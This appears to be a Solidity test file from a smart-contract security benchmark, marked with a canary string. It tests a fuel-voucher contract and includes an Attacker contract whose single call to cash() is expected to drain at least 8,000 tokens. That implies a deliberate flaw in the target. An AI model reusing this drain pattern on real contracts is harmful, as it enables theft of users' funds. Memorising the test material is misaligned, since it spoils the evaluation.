// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";
import "./FuelVouchers.sol";

// assay-canary-5794b60a-adb7-4d0f-8cb9-38d6894f7f83

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant PUMP = address(0x9089);

    Token public token;
    FuelVouchers public vouchers;
    Attacker private mallory;

    function setUp() public {
        token = new Token();
        vouchers = new FuelVouchers(token, 20);
        token.mint(address(this), 20_000);
        token.approve(address(vouchers), 20_000);
        vouchers.setStation(PUMP, true);
        vouchers.buy(ANA, 450);
        mallory = new Attacker(vouchers);
    }

    function test_Regular() public {
        vm.prank(ANA);
        vouchers.give(BEN, 20, 150);
        vouchers.setPrice(22);
        vouchers.buy(ANA, 100);
        require(vouchers.litres(ANA, 20) == 300 && vouchers.litres(BEN, 20) == 150 && vouchers.litres(ANA, 22) == 100, "litres");
        vm.prank(ANA);
        vouchers.redeem(PUMP, 20, 200);
        vm.prank(ANA);
        vouchers.redeem(PUMP, 22, 100);
        require(vouchers.redeemed(PUMP, 20) == 200 && vouchers.redeemed(PUMP, 22) == 100, "redeemed");
        vouchers.pay(PUMP, 20);
        vouchers.pay(PUMP, 22);
        require(token.balanceOf(PUMP) == 6_200, "paid");
        vm.prank(ANA);
        vouchers.cash(20, 100);
        vm.prank(BEN);
        vouchers.cash(20, 150);
        require(token.balanceOf(ANA) == 1_800 && token.balanceOf(BEN) == 2_700 && vouchers.litres(ANA, 20) == 0, "cash");
        vouchers.setStation(PUMP, false);
        vouchers.setGovernance(ANA);
        require(vouchers.governance() == ANA && !vouchers.station(PUMP), "governance");
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        vm.expectRevert("!governance");
        vouchers.setGovernance(ANA);
        vm.prank(ANA);
        vm.expectRevert("!governance");
        vouchers.setPrice(1);
        vm.prank(ANA);
        vm.expectRevert("!governance");
        vouchers.setStation(ANA, true);
    }

    function test_RefusesMistakes() public {
        vm.expectRevert("!address");
        vouchers.setGovernance(address(0));
        vm.expectRevert("!price");
        vouchers.setPrice(0);
        vm.expectRevert("!litres");
        vouchers.buy(ANA, 0);
        vm.expectRevert("!redeemed");
        vouchers.pay(PUMP, 20);
        vm.prank(ANA);
        vm.expectRevert("!station");
        vouchers.redeem(BEN, 20, 1);
        vm.prank(ANA);
        vm.expectRevert("!address");
        vouchers.give(address(0), 20, 1);
        vm.prank(ANA);
        vm.expectRevert("!litres");
        vouchers.give(BEN, 20, 0);
        vm.expectRevert("!token");
        new FuelVouchers(IERC20(address(0)), 20);
        vm.expectRevert("!price");
        new FuelVouchers(token, 0);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 8_000, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vouchers);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    FuelVouchers private vouchers;

    constructor(FuelVouchers _vouchers) public {
        vouchers = _vouchers;
    }

    function run() external {
        vouchers.cash(20, 500);
    }
}
